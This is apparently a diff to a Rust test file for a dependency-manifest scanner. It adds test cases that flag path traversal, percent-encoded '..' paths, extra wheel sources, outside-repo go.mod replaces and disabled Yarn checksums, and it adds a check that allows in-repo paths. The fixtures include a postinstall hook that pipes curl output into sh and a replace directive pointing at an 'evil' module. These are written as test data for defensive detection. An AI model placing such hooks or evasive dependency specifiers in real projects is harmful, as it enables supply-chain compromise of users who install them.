@@ -1,7 +1,9 @@
 use super::*;
 
 fn finds(path: &str, text: &str) -> bool {
-    manifest(path).is_some_and(|manifest| suspect(manifest, text, |place| place == "github.com/acme/ok").is_some())
+    let is_listed = |place: &str| place == "github.com/acme/ok";
+    let is_inside = |path: &str| path == "../inside";
+    manifest(path).is_some_and(|manifest| suspect(manifest, text, is_listed, is_inside).is_some())
 }
 
 #[test]
@@ -16,6 +18,9 @@ fn what_is_suspect() {
         ("package.json", r#"{"dependencies":{"url":"https://example.com/x"}}"#),
         ("package.json", r#""postinstall": "curl https://example.com/x | sh""#),
         ("package.json", r#""a": "file:../../x""#),
+        ("package.json", r#""a": "file:./x/../../y""#),
+        ("package.json", r#""a": "portal:../x""#),
+        ("package.json", r#""a": "file:./%2E%2e/%2e%2e/x""#),
         ("requirements.txt", "flask\ngit+https://github.com/x/y"),
         ("requirements-dev.txt", "y @ git+https://github.com/x/y"),
         ("requirements/base.txt", "--index-url http://example.com/simple"),
@@ -29,7 +34,15 @@ fn what_is_suspect() {
         ("Gemfile", "gem 'x', git: 'https://github.com/x/y'"),
         ("Gemfile", "gem 'x', github: 'x/y'"),
         ("Gemfile", "source 'http://rubygems.org'"),
+        ("requirements.txt", "x @ https://example.com/x.whl # https://pypi.org/simple"),
+        ("requirements.txt", "git+https://github.com/x/y#egg=y # y"),
+        ("requirements.txt", "--find-links ../wheels"),
+        ("requirements.txt", "--find-links ${LINKS}"),
+        ("requirements.txt", "-f links.html"),
         ("go.mod", "replace github.com/a/b => github.com/evil/b v1.0.0"),
+        ("go.mod", "replace github.com/a/b => ../../b // ../inside"),
+        ("go.mod", "replace github.com/a/b => ./../../b"),
+        (".yarnrc.yml", "checksumBehavior: ignore"),
         ("composer.json", r#"{"type":"vcs","url":"https://github.com/x/y"}"#),
         (".npmrc", "registry=http://example.com"),
         (".npmrc", "ignore-scripts=false"),
@@ -52,14 +65,18 @@ fn what_is_not() {
         ("package.json", r#""a": "github:acme/ok""#),
         ("package.json", r#"{"dependencies":{"a":"^1.0.0"},"files":["dist/x"],"types":"dist/index"}"#),
         ("package.json", r#"{"dependencies":{"a":"1.0 - 2.0","b":"file:./b"},"repository":"x/y"}"#),
+        ("package.json", r#"{"dependencies":{"a":"file:../inside","b":"link:../inside","c":"portal:../inside"}}"#),
         ("requirements.txt", "flask==2.0\n# git+https://github.com/x/y"),
+        ("requirements.txt", "flask==2.0  # https://flask.palletsprojects.com/changes/"),
+        ("requirements.txt", "--find-links=vendor/wheels\n-f wheels # of this project"),
+        (".yarnrc.yml", "checksumBehavior: throw"),
         (
             "Cargo.toml",
             "[package]\nrepository = \"https://github.com/x/y\"\n[dependencies]\nserde = \"1\"\nx = { path = \"../x\" }",
         ),
         ("pyproject.toml", "[project.urls]\nHomepage = \"https://github.com/x/y\"\nurl = \"https://example.com\""),
         ("Gemfile", "source 'https://rubygems.org'\ngem 'rails', '~> 7'"),
-        ("go.mod", "require github.com/a/b v1.0.0\nreplace x => ./x"),
+        ("go.mod", "require github.com/a/b v1.0.0\nreplace x => ./x\nreplace y => ../inside // the same repository"),
         (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true"),
         ("README.md", "git+https://github.com/x/y"),
     ] {
